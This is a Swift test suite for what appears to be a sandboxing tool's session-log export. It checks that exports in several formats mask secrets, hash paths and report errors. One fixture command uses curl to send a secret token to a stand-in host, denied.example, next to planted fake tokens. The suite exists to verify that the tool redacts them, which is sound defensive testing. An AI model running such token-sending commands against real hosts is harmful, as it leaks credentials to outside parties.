import BaileyCore
import BaileyTestSupport
import Testing

@Suite("What sessions did, for other programs", .serialized)
struct Exports {
  @Test("A real session is exported whole in each format, without its secrets")
  func formats() throws {
    let walls = try Walls()
    #expect(try walls.run(": 'X-Api-Key: planted-value'").status == 0)
    let run = try walls.run(
      "echo x > new; cat README; curl -s -m 5 http://denied.example/?token=\(Walls.secret); sh -c ': --token ghp_0123456789abcdefABCDEF0123456789abcd'; true"
    )
    #expect(run.status == 0, "\(run)")
    let count = try Self.lines(walls, ["--format", "jsonl"]).count
    #expect(count > 4)
    for format in ["ocsf", "syslog"] { #expect(try Self.lines(walls, ["--format", format]).count == count) }
    for format in ["jsonl", "ocsf", "syslog", "otlp", "atif", "opa"] {
      let text = try Self.export(walls, ["--format", format])
      #expect(!text.contains("ghp_0123456789"), "\(format)")
      #expect(!text.contains(Walls.secret), "\(format)")
      #expect(!text.contains("planted-value"), "\(format)")
      #expect(text.contains("denied.example"), "\(format)")
    }
    let recorded = try Self.export(walls, ["--format", "opa", "--unmasked"])
    #expect(recorded.contains("X-Api-Key: [masked]") && !recorded.contains("planted-value"))
    #expect(try walls.bailey(["log", "export", "--format", "ocsf", "--unmasked"]).status == 2)
    let hashed = try Self.export(walls, ["--format", "jsonl", "--hash-paths"])
    #expect(!hashed.contains(walls.scratch.path))
    #expect(hashed.contains("path-"))
    #expect(try Self.lines(walls, ["--format", "jsonl", "--since", "2099-01-01"]).isEmpty)
    #expect(try Self.lines(walls, ["--format", "jsonl", "--since", "1h", "--last", "2"]).count == 2)
    let trajectory = try JSON.parse(try Self.export(walls, ["--format", "atif"]))
    #expect(trajectory["steps"]?.array?.isEmpty == false)
    #expect(trajectory["final_metrics"]?["total_steps"] == .int(Int64(trajectory["steps"]?.array?.count ?? 0)))
  }

  @Test("A real session's events are valid OCSF", .enabled(if: PythonTools.arePresent))
  func valid() throws {
    let walls = try Walls()
    _ = try walls.run(
      "mkdir a; mv a b; rmdir b; curl -s -m 5 http://denied.example/; python3 -c 'import os; os.getpid()'")
    let events = try Self.export(walls, ["--format", "ocsf"])
    let script = #filePath.split(separator: "/").dropLast(2).reduce("") { $0 + "/" + $1 }
    let result = try Tool(PythonTools.python).run([script + "/BaileyExportTests/ocsf-validate.py"], input: events)
    #expect(result.output == "events \(events.split(separator: "\n").count)\n", "\(result)")
  }

  @Test("An export that cannot be written is no success")
  func full() throws {
    let walls = try Walls()
    _ = try walls.run("true")
    let result = try walls.outside("bailey log export --format jsonl > /dev/full")
    #expect(result.status == 1)
    #expect(result.errors.contains("[output-failed]"))
    #expect(try walls.bailey(["log", "export", "--format", "ocsf", "--since", "soon"]).status == 2)
  }

  @Test("Mistakes in export.yaml show in doctor, with their place, and the controller runs")
  func mistaken() throws {
    let walls = try Walls()
    try walls.scratch.directory("config/bailey")
    try walls.scratch.write("sinks:\n  - name: a\n    fille: /x\n", to: "config/bailey/export.yaml", mode: 0o600)
    #expect(try walls.run("true").status == 0)
    let doctor = try walls.bailey(["doctor"]).output
    #expect(
      doctor.contains("export.yaml:3:5: `fille` is no key here [export-settings] — did you mean `file`?"), "\(doctor)")
  }

  private static func export(_ walls: Walls, _ options: [String]) throws -> String {
    let result = try walls.bailey(["log", "export"] + options)
    #expect(result.status == 0, "\(options) \(result.errors)")
    return result.output
  }

  private static func lines(_ walls: Walls, _ options: [String]) throws -> [Substring] {
    try export(walls, options).split(separator: "\n")
  }
}
